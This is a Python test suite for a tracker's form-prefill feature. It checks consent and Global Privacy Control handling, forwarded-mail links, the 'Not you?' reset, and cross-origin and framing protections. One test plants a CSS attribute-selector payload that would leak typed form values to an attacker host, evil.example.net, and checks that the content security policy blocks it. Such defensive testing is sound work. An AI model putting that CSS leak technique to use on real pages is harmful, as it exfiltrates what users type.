# SPDX-License-Identifier: Apache-2.0
"""Forms as real browsers live through them: who arrives by a mail finds them filled as far as the
levels allow, a mail that is passed on ends that, what was sent is shown in that browser alone, and
"Not you?" empties them. On a page of the site, on the hosted page, and in a frame.
"""
import json
import unittest

import daemon
from scene import EVIL, LIMIT_S, MAIL, SHOP, SIBLING, SITE, TRACKER, Scene, tag

FIELDS = [
    {"name": "email", "type": "email", "required": True,
     "label": {"en": "E-mail", "ja": "メールアドレス"}},
    {"name": "company", "label": {"en": "Company", "ja": "会社名"}},
    {"name": "size", "choices": ["1-9", "10-99", "100+"], "prefill": "click",
     "label": {"en": "People", "ja": "従業員数"}},
    {"name": "phone", "type": "tel", "prefill": "confirmed",
     "label": {"en": "Phone", "ja": "電話番号"}},
    {"name": "message", "multiline": True, "prefill": "never",
     "label": {"en": "Message", "ja": "お問い合わせ内容"}},
]
CONTACT = {"name": "contact", "title": {"en": "Contact us", "ja": "お問い合わせ"},
           "fields": FIELDS}
# Where the form itself would lead; a site's own page needs no more than this.
MARKUP = f"""
<form id="form" method="post" action="{TRACKER}/f/%s" data-waymark="%s">
<input name="email"><input name="company"><select name="size"><option value="">-<option>1-9
<option>10-99<option>100+</select><input name="phone" type="tel">
<textarea name="message"></textarea>
<button id="send">Send</button></form>
<script>heard = []; form.addEventListener('input', event => heard.push(event.target.name))</script>
"""
KNOWN = {"company": "Example & Söhne", "size": "10-99", "phone": "+81 3 1234 5678",
         "message": "an old one"}
NOTHING = {"email": "", "company": "", "size": "", "phone": "", "message": ""}
BY_CLICK = {**NOTHING, "size": "10-99"}
VALUES = """Object.fromEntries(['email', 'company', 'size', 'phone', 'message'].map(
    name => [name, document.querySelector(`form[action*="/f/"]`).elements[name].value]))"""
ASK = """fetch('%s/p/%s', {credentials: 'include'}).then(
    answer => answer.json(), () => 'refused')"""
FILL = """new Promise(done => {
    const json = Response.prototype.json;
    Response.prototype.json = function () {
        const read = json.call(this);
        read.then(() => setTimeout(done));
        Response.prototype.json = json;
        return read;
    };
    waymark('prefill', document.querySelector('form'));
})"""
FRAME = '<iframe id="frame" name="frame" width="600" height="1200" src="%s/f/contact"></iframe>'


class Forms(Scene):
    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.set_form(CONTACT)
        cls.set_form({**CONTACT, "name": "kiosk", "kiosk": True})
        cls.set_form({**CONTACT, "name": "second", "success": SITE + "/thanks.html"})

    @classmethod
    def set_form(cls, form):
        path = cls.front.folder / f"{form['name']}.json"
        path.write_text(json.dumps(form))
        cls.tracker.waymark("form", "set", str(path))

    def known(self, **fields):
        """The address of somebody of whom this is known."""
        person = self.person()
        path = self.front.folder / "people.ndjson"
        path.write_text(json.dumps({"email": person, **KNOWN, **fields}) + "\n")
        self.tracker.waymark("prospect", "import", str(path))
        return person

    def form_page(self, form="contact", host=SITE):
        return self.put(tag() + MARKUP % (form, form), host)

    def arrive(self, person, page=None, **options):
        """A new reader who follows a link of @person's to a page with the form."""
        reader = self.reader(**options)
        self.click(reader, self.link(person, page or self.form_page()))
        return reader

    def fill(self, reader):
        """What the page's script fills in, once it has read its answer."""
        reader.wait("window.loaded")
        reader.evaluate(FILL)
        return reader.evaluate(VALUES)

    def asking(self, reader):
        form = reader.evaluate("document.querySelector('form').dataset.waymark")
        return ASK % (TRACKER, form)

    def filled(self, reader, page=None):
        """The values of a page's form, opened anew."""
        reader.open(page or self.form_page())
        return self.fill(reader)

    def hosted(self, reader, form="contact", query="?lang=en"):
        reader.open(f"{TRACKER}/f/{form}{query}")
        return reader.evaluate(VALUES)

    def log_in(self, reader, person):
        seen = len(self.events("login"))
        self.show(reader, self.put(tag()))
        visitor = daemon.wait_for(lambda: self.visitor(reader))
        reader.evaluate(f"waymark('identify', '{self.proof(person, visitor)}')")
        self.wait(seen + 1, "login")
        reader.quiet()

    def type(self, reader, values):
        for name, value in values.items():
            reader.evaluate(f"document.querySelector('form[action*=\"/f/\"]').elements[{name!r}]"
                            f".value = {json.dumps(value)}")


class Mail(Forms):
    def test_a_form_is_filled_by_the_levels(self):
        person = self.known()
        reader = self.arrive(person)
        self.assertEqual(self.fill(reader), BY_CLICK)
        self.assertEqual(reader.evaluate("heard"), ["size"])
        self.assertEqual(self.hosted(reader), BY_CLICK)
        event = self.wait(1, "prefill")[0]
        self.assertEqual(event["props"]["fields"], {"size": "click"})
        self.assertEqual(event["prospect"], self.handle(person))
        self.assertNotIn("10-99", json.dumps(self.events("prefill")))
        self.log_in(reader, person)
        told = {**NOTHING, "email": person, **KNOWN, "message": ""}
        self.assertEqual(self.filled(reader), told)
        self.assertEqual(self.hosted(reader), told)
        self.unharmed(reader)

    def test_what_the_visitor_has_typed_stays(self):
        reader = self.arrive(self.known())
        reader.wait("window.loaded")
        self.type(reader, {"size": "1-9", "company": "Mine"})
        self.assertEqual(self.fill(reader), {**NOTHING, "size": "1-9", "company": "Mine"})
        self.assertEqual(reader.evaluate("heard"), [])

    def test_a_mail_that_is_passed_on(self):
        for same in (True, False):
            with self.subTest(same_link=same):
                person, page = self.known(), self.form_page()
                link = self.link(person, page)
                first, second = self.reader(), self.reader()
                self.click(first, link)
                self.assertEqual(self.fill(first), BY_CLICK)
                self.click(second, link if same else self.link(person, page))
                self.assertEqual(self.fill(second), NOTHING)
                self.assertEqual(self.hosted(second), NOTHING)
                self.assertEqual(self.filled(first), NOTHING)
                self.click(first, link)
                self.assertEqual(self.fill(first), NOTHING)
                self.log_in(first, person)
                self.assertEqual(self.filled(first)["company"], KNOWN["company"])
                self.assertEqual(self.filled(second), NOTHING)

    def test_a_reader_whose_browser_refuses(self):
        refuses = {"headers": {"Sec-GPC": "1"}}
        reader = self.arrive(self.known(), **refuses)
        self.assertEqual(self.hosted(reader), NOTHING)

    def test_one_who_may_only_be_counted(self):
        reader = self.arrive(self.known())
        self.assertEqual(self.fill(reader), BY_CLICK)
        reader.evaluate("waymark('consent', 'measure')")
        self.wait(1, "consent")
        asked = len(reader.requests(TRACKER + "/p/"))
        reader.evaluate("waymark('prefill', document.querySelector('form'))")
        self.settle(reader)
        self.assertEqual(len(reader.requests(TRACKER + "/p/")), asked, "the script does not ask")
        self.assertEqual(reader.evaluate(self.asking(reader)), {
            "email": "", "company": "", "size": "", "phone": ""})
        self.assertEqual(self.hosted(reader), NOTHING)

    def test_a_kiosk(self):
        person = self.known()
        reader = self.arrive(person, self.form_page("kiosk"))
        self.assertEqual(self.fill(reader), NOTHING)
        self.log_in(reader, person)
        self.assertEqual(self.filled(reader, self.form_page("kiosk")), NOTHING)
        self.assertEqual(self.hosted(reader, "kiosk"), NOTHING)
        self.assertNotEqual(self.filled(reader), NOTHING)

    def test_pages_that_may_not_ask(self):
        """Neither the page nor the tracker tells them anything; no event says that it was told."""
        reader = self.arrive(self.known())
        for host in (SIBLING, EVIL, MAIL):
            with self.subTest(host):
                reader.open(self.put("<p>Somebody else's", host))
                self.assertEqual(reader.evaluate(ASK % (TRACKER, "contact")), "refused")
                reader.evaluate(f"fetch('{TRACKER}/p/contact', {{credentials: 'include', "
                                "mode: 'no-cors'}).then(() => 0)")
                for request in reader.requests(TRACKER + "/p/"):
                    self.assertNotIn(host, json.dumps(request["answer"]))
        self.assertEqual(self.events("prefill"), [])
        self.assertEqual(self.filled(reader, self.form_page(host=SHOP)), BY_CLICK)


class Sent(Forms):
    def send(self, reader, values):
        self.type(reader, values)
        return reader.click("#send")

    def test_the_next_form_shows_what_was_typed_here(self):
        person, typed = self.person(), {"company": "Typed & Co", "size": "1-9",
                                        "phone": "03-1111-2222", "message": "hello"}
        thanks = self.put("<p>Thanks", path="/thanks.html")
        reader = self.reader()
        reader.open(self.form_page("second"))
        reader.wait("window.loaded")
        where = self.send(reader, {"email": person, **typed})
        self.assertEqual(where["url"], thanks)
        shown = {**NOTHING, "email": person, "company": "Typed & Co", "size": "1-9"}
        self.assertEqual(self.filled(reader), shown)
        self.assertEqual(self.hosted(reader), shown)
        self.assertEqual(self.hosted(self.reader()), NOTHING)
        self.assertEqual(self.wait(1, "prefill")[0]["props"]["fields"],
                         dict.fromkeys(("email", "company", "size"), "own"))

    def test_a_stranger_who_types_a_known_address(self):
        person = self.known()
        mine = {"email": person, "size": "100+"}
        for _ in range(3):
            stranger = self.reader()
            self.hosted(stranger)
            self.send_hosted(stranger, mine)
            self.assertIn("arrived", stranger.evaluate("document.body.innerText"))
            self.assertEqual(self.hosted(stranger), {**NOTHING, **mine})
            self.assertEqual(self.filled(stranger), {**NOTHING, **mine})
            self.assertNotIn(KNOWN["company"], stranger.evaluate("document.body.innerText"))
        owner = self.reader()
        self.log_in(owner, person)
        self.assertEqual(self.filled(owner), {**NOTHING, "email": person, **KNOWN, "message": ""})

    def send_hosted(self, reader, values):
        self.type(reader, values)
        return reader.click(".send")

    def test_what_is_wrong_is_said_and_what_was_typed_is_kept(self):
        for scripts in (True, False):
            with self.subTest(scripts=scripts):
                reader = self.reader(scripts=scripts)
                reader.open(f"{TRACKER}/f/contact?lang=ja")
                reader.call("fill", selector="[name=email]", value="nobody")
                reader.call("fill", selector="[name=company]", value="<b>Bold</b>")
                reader.click(".send")
                text = reader.call("text", selector="body")
                self.assertIn("入力内容をご確認ください", text)
                self.assertIn("「メールアドレス」は", text)
                self.assertEqual(reader.call("value", selector="[name=company]"), "<b>Bold</b>")
                self.assertEqual(reader.call("value", selector="[name=email]"), "nobody")
                if scripts:
                    self.assertTrue(reader.where()["title"].startswith("エラー："))
                reader.call("fill", selector="[name=email]", value=self.person())
                reader.click(".send")
                self.assertIn("受け付けました", reader.call("text", selector="body"))


class Style(Forms):
    def test_a_form_looks_like_its_site(self):
        folder = self.front.folder / SITE.partition("//")[2]
        (folder / "form.css").write_text(
            ":root{--accent:rgb(122, 31, 92)}"
            "input[value^='a']{background:url(https://evil.example.net/leak)}")
        self.set_form({**CONTACT, "name": "styled", "css": SITE + "/form.css"})
        reader = self.reader()
        reader.open(f"{TRACKER}/f/styled?lang=en")
        color = "getComputedStyle(document.querySelector('.send')).backgroundColor"
        self.assertEqual(reader.evaluate(color), "rgb(122, 31, 92)")
        reader.evaluate("document.querySelector('[name=email]').setAttribute('value', 'a')")
        asked = daemon.wait_for(lambda: reader.requests(EVIL), LIMIT_S)
        self.assertEqual({(request["failure"], request["status"]) for request in asked},
                         {("csp", None)}, "what a form holds does not leave by its style")


class NotYou(Forms):
    def test_on_the_hosted_page(self):
        reader = self.arrive(self.known())
        self.assertEqual(self.hosted(reader), BY_CLICK)
        where = reader.click(".note button")
        self.assertEqual(where["url"], f"{TRACKER}/f/contact?done=forgotten&lang=en")
        self.assertEqual(reader.evaluate(VALUES), NOTHING)
        self.assertIsNone(self.cookie(reader))
        self.assertEqual(self.wait(1, "unbind")[0]["reason"], "forget")
        self.assertEqual(self.filled(reader), NOTHING)

    def test_in_a_frame_of_the_site(self):
        person = self.known()
        reader = self.arrive(person, self.put(tag() + FRAME % TRACKER))
        reader.call("in_frame", selector="form[action*='/f/']")
        values = reader.call("in_frame", selector="form[action*='/f/']", script=(
            "form => form.elements.size.value"))
        self.assertEqual(values, "10-99")
        reader.call("in_frame", selector=".note button", click=True)
        daemon.wait_for(lambda: reader.call("in_frame", selector="body", script=(
            "body => body.innerText")).count("empty again"), LIMIT_S)
        self.assertEqual(reader.call("in_frame", selector="form[action*='/f/']", script=(
            "form => form.elements.size.value")), "")
        self.assertEqual(self.filled(reader), NOTHING)

    def test_no_other_page_may_frame_it(self):
        reader = self.arrive(self.known())
        for host in (SIBLING, EVIL):
            reader.open(self.put(FRAME % TRACKER, host))
            reader.wait("document.getElementById('frame')")
            self.assertEqual(reader.call("in_frame", selector="form", missing=True), False)


del Forms

if __name__ == "__main__":
    unittest.main()
